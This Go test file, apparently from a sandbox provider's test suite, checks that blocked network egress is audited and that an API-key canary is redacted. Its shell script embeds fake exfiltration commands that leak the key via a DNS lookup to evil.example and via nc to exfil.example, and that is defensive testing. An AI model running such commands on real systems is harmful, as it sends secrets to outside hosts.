package sandbox

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/sandboxio/terraform-provider-sandboxio/internal/inputs"
	"github.com/sandboxio/terraform-provider-sandboxio/model"
)

// Under deny on Docker (runc) the audit record counts the blocked attempts
// and lists their destinations; a secret the code puts into a name it looks
// up is redacted there like anywhere else. Learn is the same, recorded.
func TestDocker_BlockedEgressInTheAuditRecord(t *testing.T) {
	cli := needDocker(t)
	for _, mode := range []string{model.EgressDeny, model.EgressLearn} {
		t.Run(mode, func(t *testing.T) {
			t.Parallel()
			tpl := template(t, withSecretNames("OPENAI_API_KEY"), func(x *inputs.Template) { x.Egress = mode })
			spec, sum := tenantSpec(t, tpl, "acme", "s-"+mode)
			c, audit := newClient(t)
			sb, err := c.Open(t.Context(), Request{Spec: spec, SpecSHA256: sum, TenantID: "acme", SessionID: "s-" + mode,
				Secrets: NewSecrets(map[string]string{"OPENAI_API_KEY": canary})})
			if err != nil {
				t.Fatal(err)
			}
			defer func() { _ = sb.Close(t.Context()) }()
			// Busybox's nslookup and nc: the lookups are refused and the
			// connections reset by the observer, each at once; the HTTP
			// request's Host (which carries the secret) is read, then reset.
			script := `nslookup pypi.org; nslookup "$OPENAI_API_KEY.evil.example"; nc -w 2 198.18.7.1 22 </dev/null
printf 'GET / HTTP/1.1\r\nHost: %s.exfil.example\r\n\r\n' "$OPENAI_API_KEY" | nc -w 2 198.18.7.1 80; echo done`
			res, err := sb.Run(t.Context(), []string{"sh", "-c", script}, RunOptions{Timeout: 30 * time.Second})
			if err != nil || !strings.HasSuffix(string(res.Stdout), "done\n") {
				t.Fatalf("run: %+v %v", res, err)
			}
			closeErr := closedEventually(t, cli, sb)
			text := audit.String()
			if strings.Contains(strings.ToLower(text), strings.ToLower(canary)) {
				t.Fatalf("the audit log holds the secret:\n%s", text)
			}
			recs := audit.records(t)
			var run map[string]any
			for _, r := range recs {
				if r["event"] == "exec" && run == nil {
					run = r
				}
			}
			if run == nil {
				t.Fatalf("no exec record: %s", text)
			}
			n, _ := run["blocked_egress"].(float64)
			var dests []map[string]any
			b, _ := json.Marshal(run["blocked_egress_destinations"])
			_ = json.Unmarshal(b, &dests)
			seen := map[string]bool{}
			for _, d := range dests {
				seen[strings.TrimSpace(d["kind"].(string)+" "+str(d["name"])+str(d["address"]))] = true
			}
			if n < 4 || !seen["dns pypi.org"] || !seen["dns [REDACTED].evil.example"] || !seen["tcp 198.18.7.1"] || !seen["http [REDACTED].exfil.example198.18.7.1"] {
				t.Fatalf("exec record: blocked_egress %v, destinations %v", run["blocked_egress"], dests)
			}
			if last := recs[len(recs)-1]; last["event"] != closeEvent(closeErr) || last["blocked_egress"].(float64) < n {
				t.Fatalf("close record: %v", last)
			}
		})
	}
}

func str(v any) string {
	s, _ := v.(string)
	return s
}
